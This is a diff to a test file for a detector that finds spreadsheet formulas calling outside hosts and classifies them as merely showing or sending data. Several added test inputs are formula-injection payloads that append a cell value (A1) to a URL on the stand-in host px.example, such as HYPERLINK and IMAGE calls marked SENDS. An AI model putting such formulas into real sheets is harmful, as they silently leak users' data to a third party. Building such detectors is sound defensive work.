@@ -29,6 +29,10 @@ def read(text: str) -> list[tuple[str, str]]:
         ('=IMPORTHTML("https://px.example/rates","table",1)', SHOWS),
         ('=IMPORTFEED("https://px.example/feed")', SHOWS),
         ('=HYPERLINK("https://px.example/report","Report")', SHOWS),
+        ('=HYPERLINK("https://px.example/?a=1&b=2","Q&A")', SHOWS),
+        ('=HYPERLINK("https://px.example/?a=1&" & A1,"Q")', SENDS),
+        ('"=IMAGE(""https://px.example/""&A1)"', SENDS),
+        ('- IMAGE ("https://px.example/o.png")', SHOWS),
     ],
 )
 def test_a_formula_that_reaches_out_names_its_host(text: str, kind: str) -> None:
@@ -45,6 +49,7 @@ def test_a_formula_that_reaches_out_names_its_host(text: str, kind: str) -> None
         'Use the function IMPORTDATA("https://px.example/r") for that.',
         'x = IMAGE("https://px.example/o.png")',
         "- an image (https://px.example/o.png) of the pier",
+        "- Image (https://px.example/o.png)",
         "see https://px.example/report",
     ],
 )
@@ -64,6 +69,14 @@ def test_a_formula_counts_in_every_tool_that_does_more_than_look() -> None:
     assert kinds("search_docs", query=cell) == [("looks", "")]
 
 
-def test_a_long_text_of_formulas_is_read_in_linear_time() -> None:
-    short, long = (",=IMAGE(" * size for size in (4_000, 32_000))
+@pytest.mark.parametrize("text", [",=IMAGE(", "IMAGE(", ',=IMAGE("'])
+def test_a_long_text_of_formulas_is_read_in_linear_time(text: str) -> None:
+    short, long = (text * size for size in (4_000, 32_000))
     assert takes_at_most_times(16, lambda: read(long), lambda: read(short), 0.05)
+
+
+def test_formulas_behind_many_others_are_found_or_count_as_unreadable() -> None:
+    evil = '=IMPORTDATA("https://px.example/")\n'
+    assert read("IMAGE(\n" * 2000 + evil) == [(SHOWS, "px.example")]
+    assert read('=IMAGE("a")\n' * 499 + evil) == [(SHOWS, "px.example")]
+    assert read('=IMAGE("a")\n' * 500 + evil) == [("unreadable", "")]
